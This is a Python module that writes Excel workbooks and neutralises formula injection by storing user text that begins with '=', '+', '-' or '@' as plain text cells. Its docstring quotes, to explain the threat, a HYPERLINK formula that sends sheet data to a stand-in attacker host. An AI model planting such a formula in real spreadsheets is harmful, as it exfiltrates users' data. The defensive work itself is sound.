"""Every .xlsx the platform writes is made here (DESIGN §5 v1.1): text that starts with "=", "+",
"-", "@", a tab or a carriage return is written as a text cell, never as a formula. Such text comes
from users (a request's title, a visitor's name), and Excel would run
`=HYPERLINK("http://evil.example/?d="&B2,"点击查看")` as a live formula that sends the sheet's data
away. Numbers, negative amounts among them, stay numbers.

Two ways to build a workbook: `workbook()` … `save(book)` for small sheets laid out in memory (any
cell may be styled afterwards; `save` makes every text cell safe), and `StreamedWorkbook` (or
`xlsx(sheets)` at once) for long lists written row by row: typed cells, a bold header."""

import datetime as dt
import io
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Font

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DECIMAL_FORMAT, DATE_FORMAT = "0.00", "yyyy-mm-dd"


def _as_text(cell: Cell) -> Cell:
    """A text cell whatever its content, shown and edited as text: `quotePrefix` is Excel's own
    mark for text typed with a leading apostrophe, so editing the cell does not make it a formula."""
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def unsafe(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def workbook() -> Workbook:
    """An in-memory workbook; write it with `save`."""
    return Workbook()


def save(book: Workbook) -> bytes:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if unsafe(cell.value):
                    _as_text(cell)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


class _StreamedSheet:
    """A write-only sheet: Decimal with two places, dates as dates, unsafe text as text."""

    def __init__(self, book: Workbook, title: str, header: list[str]):
        self.sheet = book.create_sheet(title)
        self.sheet.append([self._cell(name, font=Font(bold=True)) for name in header])

    def _cell(self, value, number_format=None, font=None):
        cell = WriteOnlyCell(self.sheet, value)
        if number_format:
            cell.number_format = number_format
        if font:
            cell.font = font
        return _as_text(cell) if unsafe(value) else cell

    def append(self, values) -> None:
        row = []
        for value in values:
            if isinstance(value, Decimal):
                row.append(self._cell(value, DECIMAL_FORMAT))
            elif isinstance(value, dt.date):
                row.append(self._cell(value, DATE_FORMAT))
            elif unsafe(value):
                row.append(self._cell(value))
            else:
                row.append(value)
        self.sheet.append(row)


class StreamedWorkbook:
    """Rows go to disk as they are appended (openpyxl's write-only mode): for lists of any length."""

    def __init__(self):
        self.book = Workbook(write_only=True)

    def sheet(self, title: str, header: list[str]) -> _StreamedSheet:
        return _StreamedSheet(self.book, title, header)

    def save(self) -> bytes:
        out = io.BytesIO()
        self.book.save(out)
        return out.getvalue()


def xlsx(sheets) -> bytes:
    """A workbook of (title, header, rows) sheets, streamed: `rows` may be a generator."""
    book = StreamedWorkbook()
    for title, header, rows in sheets:
        sheet = book.sheet(title, header)
        for row in rows:
            sheet.append(row)
    return book.save()
